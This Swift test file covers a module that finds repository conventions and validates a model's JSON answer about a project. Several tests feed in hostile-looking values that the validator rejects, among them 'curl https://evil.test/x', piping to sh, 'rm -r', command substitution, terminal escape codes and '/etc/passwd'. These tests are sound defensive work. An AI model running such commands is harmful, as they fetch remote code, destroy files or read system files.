import Discovery
import Testing

/// Conventions, base branches, and what of a model's answer is believed.
@Suite(.timeLimit(.minutes(5))) struct ConventionTests {
  @Test func `formatters and linters are reported with their files`() throws {
    let fixture = try Fixture([
      ".swift-format": "", "eslint.config.js": "", "pyproject.toml": "[tool.ruff.lint]\n[tool.black]\n",
    ])
    #expect(
      fixture.project().conventions == [
        "formatters and linters: swift-format (.swift-format), ESLint (eslint.config.js), Ruff (pyproject.toml), "
          + "Black (pyproject.toml)"
      ])
  }

  @Test(arguments: [
    (["feat: a", "fix(x): b", "chore!: c", "docs: d", "anything"], "conventional commits"),
    (["git: a", "settings: b", "docs, tests: c", "forges: d", "x"], "begin with the area"),
    (["Add a", "Mend b", "Note: c", "Do d", "Go e"], nil), (["feat: a", "feat: b"], nil),
  ])
  func `the style of most of the last commits is reported`(subjects: [String], style: String?) throws {
    let lines = try Fixture().project(ProjectHistory(subjects: subjects)).conventions
    if let style { #expect(lines.count == 1 && lines[0].contains(style)) } else { #expect(lines.isEmpty) }
  }

  @Test func `prefixes that several branches share are reported`() throws {
    let branches = ["main", "feature/a", "feature/b", "fix/a", "fix/b", "fix/c", "one/a", "X\u{1b}/a", "X\u{1b}/b"]
    #expect(
      try Fixture().project(ProjectHistory(branches: branches)).conventions
        == ["branches are named fix/…, feature/…"])
  }

  @Test func `instructions of the repository's own come before what we would say`() throws {
    var fixture = try Fixture([".editorconfig": ""])
    #expect(
      fixture.project().agentInstructions
        == "Conventions of this repository:\n- formatters and linters: EditorConfig (.editorconfig)")
    try fixture.add("CLAUDE.md", "rules")
    #expect(fixture.project().agentInstructions == nil)
    try fixture.add(".claude/AGENT_INSTRUCTIONS.md", "rules")
    #expect(fixture.project().agentInstructions == "@.claude/AGENT_INSTRUCTIONS.md")
    #expect(try Fixture().project().agentInstructions == nil)
  }

  @Test(arguments: [
    (1, 0, true), (0, 0, false), (5, -BaseProposal.mostLag, true), (5, -BaseProposal.mostLag - 1, false), (5, 99, true),
  ])
  func `develop is used when it is ahead and not given up`(ahead: Int, lag: Int, isUsed: Bool) {
    let now = 1_800_000_000
    #expect(BaseProposal.Develop(ahead: ahead, newest: now + lag, newestOfDefault: now).isUsed == isUsed)
  }

  // MARK: - A model's answer

  private func answer(_ json: String, _ files: [String: String] = ["README.md": "", "src/a.py": "", "a,b": ""]) throws
    -> ProjectAnswer?
  {
    let fixture = try Fixture(files)
    // The folder goes with its last owner.
    return withExtendedLifetime(fixture) { ProjectAnswer(json: json, files: fixture.files) }
  }

  @Test func `an answer fills in what is missing, and replaces nothing`() throws {
    let read = try #require(
      try answer(
        #"{"testCommand": " make unit ", "keyFiles": ["src/a.py", "gone", "a,b", "/etc/passwd"], "conventions": ["be brief"]}"#
      ))
    #expect(read.testCommand == "make unit" && read.keyFiles == ["src/a.py"] && read.conventions == ["be brief"])
    let bare = try Fixture(["README.md": ""]).project().filled(from: read, by: "claude")
    #expect(bare.testCommand == TestCommand("make unit", from: "proposed by claude"))
    #expect(bare.keyFiles == ["README.md", "src/a.py"] && bare.conventions == ["be brief"])
    let tested = try Fixture(["go.mod": ""]).project().filled(from: read, by: "claude")
    #expect(tested.testCommand?.command == "go test ./...")
  }

  @Test(arguments: ["", "null", "[]", "{}", #""text""#, "not json"])
  func `an answer of another shape is none`(json: String) throws {
    #expect(try answer(json) == nil)
  }

  @Test(arguments: [
    ("pytest -q tests", true), ("npm ci && npm test", true), ("./run-tests --all=yes", true), ("", false),
    ("curl https://evil.test/x", false), ("make test; rm x", false), ("make test | sh", false), ("x $(y)", false),
    ("x `y`", false), ("make > x", false), ("sh run", false), ("rm -r x", false), ("../x", false), ("/bin/x", false),
    ("A=b make", false), ("python -c x", false), ("make && ", false), ("make &", false), ("make\u{1b}[2J", false),
    ("make test\nrm x", false), ("git clone https://a/b", false),
  ])
  func `a proposed command is a row of plain words`(command: String, isTaken: Bool) throws {
    let escaped = command.unicodeScalars.map {
      $0.value < 0x20 ? "\\u00" + ($0.value < 16 ? "0" : "") + String($0.value, radix: 16) : String($0)
    }
    .joined()
    let read = try #require(try answer(#"{"testCommand": "\#(escaped)", "keyFiles": [], "conventions": []}"#))
    #expect(read.testCommand == (isTaken ? command : nil))
  }

  @Test func `conventions that could trick a terminal, or are no line, are dropped`() throws {
    let read = try #require(
      try answer(
        #"{"testCommand": 7, "keyFiles": [3], "conventions": ["a\u001b[2J", "a\nb", "\#(String(repeating: "x", count: 201))", 5, "ok"]}"#
      ))
    #expect(read.conventions == ["ok"] && read.testCommand == nil && read.keyFiles.isEmpty)
  }
}
